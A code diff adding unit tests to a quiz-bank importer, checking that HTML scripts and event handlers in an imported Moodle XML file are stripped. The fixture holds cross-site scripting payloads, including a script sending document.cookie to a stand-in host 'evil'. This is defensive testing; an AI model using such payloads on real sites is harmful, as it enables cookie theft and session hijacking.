@@ -6,6 +6,7 @@
 #include "exchange/bankexchange.h"
 #include "exchange/importfile.h"
 #include "exchange/importpictures.h"
+#include "exchange/moodlexml.h"
 #include "store/engineerror.h"
 
 #include <QDir>
@@ -24,6 +25,8 @@ private Q_SLOTS:
     void picturesInProgramForm_data();
     void picturesInProgramForm();
     void newPictureAvoidsNamesTheBankShows();
+    void hostileTextsCleaned();
+    void storedTextsExportedAsTheyAre();
     void runningImportIsLeftAlone();
     void killedBetweenBookkeepingSteps_data();
     void killedBetweenBookkeepingSteps();
@@ -243,6 +246,68 @@ void TestImportFile::picturesInProgramForm() {
     for (const QString& file : QDir(pictures).entryList(QDir::Files | QDir::Hidden))
         QVERIFY2(shown.contains(file) || file == QStringLiteral("dot.png"), qPrintable(file));
     QVERIFY(!QFileInfo::exists(pictures + QStringLiteral("/.import")));
+}
+
+// A colleague's file with scripts in its category, question and choices: the
+// bank stores what is left of them, and the teacher is told how much went.
+void TestImportFile::hostileTextsCleaned() {
+    const QTemporaryDir dir;
+    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
+    banktest::freshBank(bank);
+    banktest::BankConnection conn(bank);
+    const QString xml = dir.filePath(QStringLiteral("hostile.xml"));
+    writeFile(xml,
+              "<quiz><question type=\"category\"><category><text><![CDATA[$course$/top/初二/"
+              "期中<img src=x onerror=alert(0)>]]></text></category></question>"
+              "<question type=\"multichoice\"><name><text>q</text></name>"
+              "<questiontext format=\"html\"><text><![CDATA[<p>哪个?"
+              "<script>fetch('http://evil/'+document.cookie)</script>"
+              "<img src=\"x\" onerror=\"alert(2)\"> <a href=\"javascript:alert(3)\">看</a></p>]]>"
+              "</text></questiontext><single>true</single>"
+              "<answer fraction=\"100\"><text><![CDATA[<b onclick=\"alert(4)\">甲</b>]]></text>"
+              "</answer><answer fraction=\"0\"><text><![CDATA[<i>乙</i>]]></text></answer>"
+              "</question></quiz>");
+    QVector<int> ids;
+    const Imported imported =
+        importQuestionFile(conn, xml, dir.filePath(QStringLiteral("images")), QString(), &ids);
+    QCOMPARE(ids.size(), 1);
+    // The picture x stays, and the teacher is told it is not in the folder.
+    QCOMPARE(imported.warnings.size(), 2);
+    QCOMPARE(imported.warnings[0],
+             QStringLiteral("试卷 \"期中\": 为安全起见删除了 5 处脚本或不安全的内容."));
+    QVERIFY2(imported.warnings[1].contains(QStringLiteral("图片 \"x\" 不在图片文件夹")),
+             qPrintable(imported.warnings[1]));
+    const Paper stored = readPaper(conn, ids.first());
+    QCOMPARE(stored.name, QStringLiteral("期中"));
+    QCOMPARE(stored.category, QStringLiteral("初二"));
+    QCOMPARE(stored.questions.size(), 1);
+    QCOMPARE(stored.questions[0].html, QStringLiteral("<p>哪个?<img src=\"x\"> <a>看</a></p>"));
+    QCOMPARE(stored.questions[0].choices.size(), 2);
+    QCOMPARE(stored.questions[0].choices[0].html, QStringLiteral("<b>甲</b>"));
+    QCOMPARE(stored.questions[0].choices[1].html, QStringLiteral("<i>乙</i>"));
+}
+
+// What the bank holds is the teacher's, typed in the grids or written by
+// another program: export writes it as it is, cleaning only what comes in.
+void TestImportFile::storedTextsExportedAsTheyAre() {
+    const QTemporaryDir dir;
+    const QString bank = dir.filePath(QStringLiteral("bank.mdb"));
+    banktest::freshBank(bank);
+    banktest::BankConnection conn(bank);
+    const QString typed = QStringLiteral("<p onclick=\"go()\">看<script>go()</script></p>");
+    banktest::executeInOneTransaction(
+        conn,
+        {QStringLiteral("insert into paper (PapID, PapNam) values (1, '自编')"),
+         QStringLiteral("insert into question (QstID, PapIdx, QstIdx, QstTyp, QstScr, IsTrue, "
+                        "QstCon) values (1, 1, 1, '判断题', 1, 1, '%1')")
+             .arg(typed)});
+    const Paper stored = readPaper(conn, 1);
+    QCOMPARE(stored.questions.size(), 1);
+    QCOMPARE(stored.questions[0].html, typed);
+    const QString xml =
+        QString::fromUtf8(writeMoodleXml(stored, dir.filePath(QStringLiteral("images"))));
+    QVERIFY2(xml.contains(QStringLiteral("<![CDATA[") + typed + QStringLiteral("]]>")),
+             qPrintable(xml));
 }
 
 // A text of the bank shows flag.png, which the folder lacks: the import's
